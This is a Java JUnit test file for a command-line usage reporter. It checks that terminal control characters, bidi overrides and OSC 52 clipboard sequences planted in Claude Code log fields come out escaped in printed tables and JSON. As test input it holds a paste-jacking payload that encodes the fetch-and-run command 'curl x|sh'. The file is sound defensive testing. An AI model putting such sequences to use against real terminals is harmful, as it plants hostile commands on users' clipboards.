package dev.tandem.hub.usage;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tandem.core.cli.TerminalText;
import dev.tandem.core.store.Store;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Optional;
import java.util.function.BiFunction;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text an agent writes into a Claude Code log (a file under ~/.claude/projects, which the agent can write) must not
 * reach the person's terminal with its control or format characters when {@code tandem usage} prints a table: an
 * OSC 52 sequence would set the clipboard (paste-jacking), others retitle the window, move the cursor or, with a bidi
 * override, make a line read otherwise. Each such character is printed as its escape (<code>&#92;u001b</code>).
 */
class TerminalEscapeReproTest {
    /** ESC ] 52 ; c ; base64("curl x|sh") BEL, as JSON escapes: the reader takes the line through Jackson. */
    private static final String OSC52 = "\\u001b]52;c;Y3VybCB4fHNo\\u0007";

    @TempDir
    Path dir;

    /** Returns the report {@code ask} makes of the fixture log after {@code edit} changed its text. */
    private Report report(
            LogHome h, java.util.function.UnaryOperator<String> edit, BiFunction<Ledger, Query, Report> ask)
            throws IOException {
        LogHome.copy("claude-2.1.329-project-log-full.jsonl", h.claudeProject.resolve("a.jsonl"));
        Path log = h.claudeProject.resolve("a.jsonl");
        Files.writeString(log, edit.apply(Files.readString(log)));
        try (Store store = h.store()) {
            h.scanner(store).scan(Duration.ZERO);
            return ask.apply(
                    new Ledger(store.usage(), h.settings(), Clock.systemUTC()),
                    new Query("all", Optional.empty(), Optional.empty(), true));
        }
    }

    private static String table(LogHome h, Report r) {
        StringWriter out = new StringWriter();
        new ReportTable(h.home).print(r, new PrintWriter(out, true));
        return out.toString();
    }

    /** Fails naming the first raw control or format character (shown as <U+XXXX>) in {@code text}. */
    private static void assertNoControlCharacters(String text) {
        StringBuilder shown = new StringBuilder();
        boolean raw = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            int type = Character.getType(c);
            if (c != '\n' && (type == Character.CONTROL || type == Character.FORMAT)) {
                raw = true;
                shown.append(String.format("<U+%04X>", (int) c));
            } else {
                shown.append(c);
            }
        }
        assertFalse(raw, shown.toString());
    }

    @Test
    void aModelNameFromALogCarriesNoControlCharactersIntoTheTable() throws IOException {
        LogHome h = new LogHome(dir);
        Report r = report(
                h,
                s -> s.replace("\"model\":\"claude-opus-5-5\"", "\"model\":\"claude-opus-5-5" + OSC52 + "\""),
                Ledger::daily);
        String table = table(h, r);
        assertNoControlCharacters(table);
        // shown, escaped: the person sees that the name carries something
        assertTrue(table.contains("claude-opus-5-5\\u001b]52;c;Y3VybCB4fHNo\\u0007"), table);
        // a model without a price is named in the footer too: escaped there as well
        assertTrue(table.contains("not in the cost: claude-opus-5-5\\u001b]52"), table);
    }

    @Test
    void aSessionIdAndWorkingFolderFromALogCarryNoControlOrBidiCharactersIntoTheTable() throws IOException {
        LogHome h = new LogHome(dir);
        // a right-to-left override in the folder (the rest of the line reads backwards), OSC 52 in the session id
        Report r = report(
                h,
                s -> s.replace("\"cwd\":\"/tmp/tr/cl.proj_1/a-b\"", "\"cwd\":\"/tmp/tr/\\u202eb-a\\u0008\\r\"")
                        .replace(
                                "\"sessionId\":\"3f92f5f7-2f1a-40ae-ac99-abea8c585e64\"",
                                "\"sessionId\":\"3f92f5f7" + OSC52 + "\""),
                Ledger::sessions);
        String table = table(h, r);
        assertNoControlCharacters(table);
        assertTrue(table.contains("/tmp/tr/\\u202eb-a\\u0008\\u000d"), table);
        assertTrue(table.contains("3f92f5f7\\u001b]52;c;Y3VybCB4fHNo\\u0007"), table);

        Report projects = report(h, s -> s, Ledger::projects);
        assertNoControlCharacters(table(h, projects));
    }

    @Test
    void theJsonFormEscapesControlAndFormatCharactersAndKeepsTheText() throws IOException {
        LogHome h = new LogHome(dir);
        Report r = report(
                h,
                s -> s.replace("\"cwd\":\"/tmp/tr/cl.proj_1/a-b\"", "\"cwd\":\"/tmp/\\u202eb\\u0085\\u007f\\u001b\""),
                Ledger::projects);
        String json = JsonValueWriter.indented(ReportJson.of(r));
        assertNoControlCharacters(json.replace("\r", "<CR>"));
        assertFalse(json.contains("\u007f") || json.contains("\u0085") || json.contains("\u202e"), json);
        // the same text when read back: only its spelling in JSON differs
        assertTrue(json.contains("/tmp/\\u202Eb\\u0085\\u007F\\u001B") || json.contains("/tmp/\\u202eb\\u0085"), json);
        assertEquals(
                "/tmp/\u202eb\u0085\u007f\u001b",
                tools.jackson.databind.json.JsonMapper.builder()
                        .build()
                        .readTree(json)
                        .path("rows")
                        .path(0)
                        .path("key")
                        .asString(),
                json);
    }

    @Test
    void safeTextKeepsOrdinaryTextAndEscapesEachOtherCharacter() {
        assertEquals("claude-opus-5-5 ~/Проекты/日本 😀", TerminalText.safe("claude-opus-5-5 ~/Проекты/日本 😀"));
        assertEquals("a\\u0009b\\u000a\\u009b2J\\u200b\\u2028", TerminalText.safe("a\tb\n\u009b2J\u200b\u2028"));
        assertEquals("x\\ud800y", TerminalText.safe("x\ud800y"));
    }
}
